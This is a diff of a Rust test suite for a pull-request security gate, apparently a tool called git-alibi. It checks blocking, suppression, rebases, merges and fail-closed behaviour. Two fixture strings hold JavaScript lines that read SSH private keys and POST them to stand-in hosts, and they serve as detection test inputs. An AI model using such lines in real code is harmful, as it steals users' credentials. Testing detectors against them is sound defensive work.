@@ -1,4 +1,4 @@
-//! A pull request, judged before it is merged: clean, malicious, moved, excused, and one that would excuse itself.
+//! Tests of `gate` on pull requests: clean, malicious, rebased, suppressed, and one that tries to suppress itself.
 
 #![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
 
@@ -10,14 +10,14 @@ use std::path::Path;
 use std::process::Output;
 use tempfile::TempDir;
 
-/// Reads a private key and sends it away: what must not be merged.
+/// Code that sends a private key to a server; must be blocked.
 const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\\nreq.end(key);\\n";
 
-/// Another that lies about since the beginning.
+/// Similar code that has been in the repository from the start.
 const OLD: &str = "const old = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\\nhttps.request({ host: 'old.example.org', method: 'POST' }).end(old);\\n";
 
-/// Ana keeps a project of two years, in which an old theft lies about that nobody ever saw. Ben proposes something: `steps`
-/// on the branch `proposal`. `main` are further steps of Ana's on `main` before that.
+/// A project that Ana has maintained for two years, with an old theft that went unnoticed. `steps` are Ben's commits on
+/// the branch `proposal`; `main` are further commits by Ana on `main` before these.
 fn project(main: &str, steps: &str) -> TempDir {
     let output = format!(
         "title = 't'\nstory = 's'\nhead = ''\n\
@@ -32,7 +32,7 @@ fn project(main: &str, steps: &str) -> TempDir {
     folder
 }
 
-/// A step of somebody's, on a branch.
+/// A commit by a person on a branch.
 fn step(by: &str, branch: &str, day: &str, files: &str) -> String {
     format!(
         "[[step]]\nby = '{by}'\nat = '2024-{day} 10:00'\nbranch = '{branch}'\nmessage = 'Change'\nwrite = {{ {files} }}\n"
@@ -52,7 +52,7 @@ fn report(folder: &Path) -> serde_json::Value {
     serde_json::from_slice(&gate(folder, &["--format", "json"]).stdout).unwrap()
 }
 
-/// The ids of what counts.
+/// The ids of the findings that count.
 fn ids(folder: &Path) -> Vec<String> {
     let report = report(folder);
     let findings = report["findings"].as_array().unwrap().iter();
@@ -65,7 +65,7 @@ fn suppression(id: &str, more: &str) -> String {
 }
 
 #[test]
-fn a_clean_proposal_passes_in_one_line_whatever_is_old() {
+fn a_clean_pull_request_passes_despite_old_findings() {
     let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
     let out = gate(clean.path(), &[]);
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
@@ -77,7 +77,7 @@ fn a_clean_proposal_passes_in_one_line_whatever_is_old() {
 }
 
 #[test]
-fn a_proposal_that_steals_is_stopped_with_the_line_the_reason_and_the_fix() {
+fn a_malicious_pull_request_fails_with_line_reason_and_fix() {
     let bad = project("", &theft("01-08"));
     let out = gate(bad.path(), &[]);
     let output = text(&out.stdout);
@@ -93,7 +93,7 @@ fn a_proposal_that_steals_is_stopped_with_the_line_the_reason_and_the_fix() {
 }
 
 #[test]
-fn a_finding_keeps_its_id_when_it_is_rebased_shifted_and_renamed() {
+fn a_finding_keeps_its_id_when_rebased_and_shifted() {
     let before = project("", &theft("01-08"));
     let other = step("ana", "main", "01-15", "'app.js' = \"begin();\\n\"");
     let shifted = format!("'report.js' = \"// What we send, and why.\\nlet a = 1;\\nlet b = 2;\\n{THEFT}\"");
@@ -112,7 +112,7 @@ fn a_finding_keeps_its_id_when_it_is_rebased_shifted_and_renamed() {
 }
 
 #[test]
-fn what_main_excuses_passes_and_is_counted() {
+fn suppressions_on_main_are_applied_and_counted() {
     let id = ids(project("", &theft("01-08")).path())[0].clone();
     let excused = |more: &str| {
         let file = step("ana", "main", "01-02", &format!("'alibi.toml' = \"{}\"", suppression(&id, more)));
@@ -127,7 +127,7 @@ fn what_main_excuses_passes_and_is_counted() {
     assert_eq!(finding["suppressed"]["reason"], "Ana asked Ben, and it is a fixture");
     assert_eq!((&finding["suppressed"]["by"], &finding["counted_db"]), (&"file".into(), &0.0.into()));
     assert_eq!(gate(folder.path(), &["--no-suppressions"]).status.code(), Some(1));
-    // The clock of the tests stands at the first day of 2025.
+    // The tests run with the date 2025-01-01.
     assert_eq!(gate(excused("expires = 2025-01-01\\n").path(), &[]).status.code(), Some(0), "the last day counts");
     let expired = gate(excused("expires = 2024-12-31\\n").path(), &[]);
     assert_eq!(expired.status.code(), Some(1));
@@ -142,7 +142,7 @@ fn what_main_excuses_passes_and_is_counted() {
 }
 
 #[test]
-fn a_proposal_cannot_excuse_itself() {
+fn a_pull_request_cannot_suppress_its_own_findings() {
     let id = ids(project("", &theft("01-08")).path())[0].clone();
     let file = format!("'report.js' = \"{THEFT}\"");
     let ways = [
@@ -162,22 +162,22 @@ fn a_proposal_cannot_excuse_itself() {
             if *what == "report.js" { "cannot suppress its own findings" } else { "version before the range" };
         assert!(output.contains(message) && output.contains(what), "{what} is told of: {output}");
     }
-    // In two steps of one proposal, too.
+    // The same with two commits in one proposal.
     let first = step("ben", "proposal", "01-08", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
     let out = gate(project("", &format!("{first}{}", theft("01-09"))).path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
 }
 
 #[test]
-fn a_comment_excuses_what_stood_beside_it_and_nothing_that_comes_there() {
+fn an_inline_suppression_does_not_cover_new_code() {
     const COMMENT: &str = "// git-alibi: ignore[credential-read-egress owner=ana] the vault's own client\\n";
     let vault = format!("'report.js' = \"{COMMENT}{OLD}\"");
     let before = step("ana", "main", "01-02", &vault);
-    // What Ana excused stays excused, though the proposal moves it.
+    // The line that Ana suppressed stays suppressed, even if the proposal moves it.
     let moved = format!("'report.js' = \"let a;\\n{COMMENT}{OLD}\"");
     let folder = project(&before, &step("ben", "proposal", "01-08", &moved));
     assert_eq!(gate(folder.path(), &[]).status.code(), Some(0));
-    // A theft in its place, and one beside a copy of the comment, are not.
+    // A theft that replaces the line, or that comes with a copy of the comment, is not suppressed.
     for change in [format!("{COMMENT}{THEFT}"), format!("{COMMENT}{OLD}{COMMENT}{THEFT}")] {
         let folder = project(&before, &step("ben", "proposal", "01-08", &format!("'report.js' = \"{change}\"")));
         let out = gate(folder.path(), &[]);
@@ -187,18 +187,18 @@ fn a_comment_excuses_what_stood_beside_it_and_nothing_that_comes_there() {
 }
 
 #[test]
-fn a_copy_of_what_was_excused_elsewhere_is_the_proposals_own() {
+fn copied_code_is_reported_but_moved_code_is_not() {
     let copy = step("ben", "proposal", "01-08", &format!("'new.js' = \"{OLD}\""));
     let bad = project("", &copy);
     let out = gate(bad.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
     assert!(text(&out.stdout).contains("new.js:1"), "{}", text(&out.stdout));
-    // No decision about the old one covers it.
+    // A decision about the old finding does not cover the copy.
     let scan = alibi(&["scan", bad.path().to_str().unwrap(), "--refs", "heads/main", "--format", "json"]);
     let scan: serde_json::Value = serde_json::from_slice(&scan.stdout).unwrap();
     let old = scan["findings"][0]["id"].as_str().unwrap().to_owned();
     assert!(!ids(bad.path()).contains(&old), "{old}");
-    // Moving it is not copying it.
+    // Moving the file is not copying it.
     let moved = format!(
         "[[step]]\nby = 'ben'\nat = '2024-01-08 10:00'\nbranch = 'proposal'\nmessage = 'Move'\nremove = ['old.js']\nwrite = {{ 'lib/old.js' = \"{OLD}\" }}\n"
     );
@@ -218,27 +218,27 @@ fn merge_of(folder: &Path, parents: &[&str], tree_of: &str) {
 }
 
 #[test]
-fn a_merge_brings_back_what_was_taken_away_and_is_judged_for_it() {
+fn a_merge_that_restores_removed_code_is_reported() {
     let gone = "[[step]]\nby = 'ana'\nat = '2024-01-05 10:00'\nmessage = 'Away'\nremove = ['old.js']\n";
     let folder = project(gone, "");
     merge_of(folder.path(), &["main", "main~1"], "main~1");
     let out = gate(folder.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
     assert!(text(&out.stdout).contains("old.js"), "{}", text(&out.stdout));
-    // The same by way of a branch that parted before it was taken away.
+    // The same through a branch that was created before the file was removed.
     let folder = project(gone, "");
     merge_of(folder.path(), &["main~1"], "main~1");
     merge_of(folder.path(), &["main", "proposal"], "proposal");
     let out = gate(folder.path(), &[]);
     assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
-    // A merge of main into a clean proposal brings nothing.
+    // Merging main into a clean proposal adds nothing.
     let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
     merge_of(folder.path(), &["proposal", "main"], "proposal");
     assert_eq!(gate(folder.path(), &[]).status.code(), Some(0));
 }
 
 #[test]
-fn a_name_that_means_two_things_and_one_that_means_none_are_refused() {
+fn ambiguous_and_empty_range_names_are_rejected() {
     let bad = project("", &theft("01-08"));
     let path = bad.path().to_str().unwrap();
     let repository = git2::Repository::open_bare(bad.path()).unwrap();
@@ -259,7 +259,7 @@ fn a_name_that_means_two_things_and_one_that_means_none_are_refused() {
 }
 
 #[test]
-fn a_repository_that_came_with_the_proposal_is_not_the_one_that_is_judged() {
+fn the_gate_refuses_a_repository_nested_in_another() {
     let (inner, outer) = (project("", &theft("01-08")), tempfile::tempdir().unwrap());
     std::fs::create_dir(outer.path().join(".git")).unwrap();
     let sub = outer.path().join("sub");
@@ -270,9 +270,9 @@ fn a_repository_that_came_with_the_proposal_is_not_the_one_that_is_judged() {
 }
 
 #[test]
-fn the_teams_files_can_be_believed_as_another_branch_has_them() {
+fn team_files_can_be_read_from_a_trusted_branch() {
     let id = ids(project("", &theft("01-08")).path())[0].clone();
-    // Two pushes to one branch: the first excuses what the second brings.
+    // Two pushes to one branch: the first adds a suppression for the finding in the second.
     let excuse = step("ben", "proposal", "01-06", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
     let folder = project("", &format!("{excuse}{}", theft("01-08")));
     let path = folder.path().to_str().unwrap();
@@ -283,8 +283,8 @@ fn the_teams_files_can_be_believed_as_another_branch_has_them() {
 }
 
 #[test]
-fn branches_that_met_twice_are_judged_for_what_is_theirs() {
-    // Main and the proposal have merged each other: they have two newest common ancestors.
+fn criss_cross_merges_are_checked_for_new_content_only() {
+    // Main and the proposal have merged each other: they have two merge bases.
     let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
     let repository = git2::Repository::open_bare(folder.path()).unwrap();
     let (main, side) = ("refs/heads/main", "refs/heads/proposal");
@@ -299,7 +299,7 @@ fn branches_that_met_twice_are_judged_for_what_is_theirs() {
 }
 
 #[test]
-fn what_cannot_be_seen_fails_closed_and_says_what_brings_it() {
+fn missing_history_fails_closed_with_a_fetch_command() {
     let bad = project("", &theft("01-08"));
     let path = bad.path().to_str().unwrap();
     let refused = |range: &str, more: &[&str]| {
@@ -323,7 +323,7 @@ fn what_cannot_be_seen_fails_closed_and_says_what_brings_it() {
     assert!(code == 1 && output.contains("old.js"), "from the empty tree on all is judged: {output}");
     assert_eq!(refused("proposal", &[]).0, 2);
     assert_eq!(refused("main..proposal", &["--time-limit", "0"]).0, 2);
-    // Shallow: what lies before is not known.
+    // A shallow clone, which lacks earlier history.
     let tip = git2::Repository::open_bare(bad.path()).unwrap().refname_to_id("refs/heads/main").unwrap();
     std::fs::write(bad.path().join("shallow"), format!("{tip}\n")).unwrap();
     let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
@@ -337,7 +337,7 @@ fn what_cannot_be_seen_fails_closed_and_says_what_brings_it() {
 }
 
 #[test]
-fn a_file_of_the_proposal_that_cannot_be_read_fails_closed_and_an_old_one_does_not() {
+fn only_unreadable_files_in_the_range_fail_closed() {
     let object_of = |folder: &TempDir, rev: &str| {
         let repo = git2::Repository::open_bare(folder.path()).unwrap();
         let id = repo.revparse_single(rev).unwrap().id().to_string();
@@ -355,7 +355,7 @@ fn a_file_of_the_proposal_that_cannot_be_read_fails_closed_and_an_old_one_does_n
     std::fs::remove_file(object_of(&old, "main:old.js")).unwrap();
     let out = gate(old.path(), &[]);
     assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
-    // A partial clone leaves old files with the remote as a matter of course, and must not leave the new ones there.
+    // A partial clone normally lacks old files, but must not lack new ones.
     for (folder, code) in [(&old, 0), (&lost, 3)] {
         std::fs::create_dir_all(folder.path().join("objects/pack")).unwrap();
         std::fs::write(folder.path().join("objects/pack/pack-0.promisor"), "").unwrap();
@@ -366,8 +366,8 @@ fn a_file_of_the_proposal_that_cannot_be_read_fails_closed_and_an_old_one_does_n
 }
 
 #[test]
-fn a_force_push_is_judged_by_what_it_brings() {
-    // The branch was rewritten: what the push leaves behind is not judged again, what is new is.
+fn a_force_push_is_checked_for_new_content_only() {
+    // The branch was rewritten: only the new commits are checked, not those that the push drops.
     let folder = project("", &format!("{}{}", theft("01-08"), step("ben", "again", "01-09", "'b.js' = \"let b;\\n\"")));
     let path = folder.path().to_str().unwrap();
     let clean = alibi(&["gate", "proposal..again", path]);
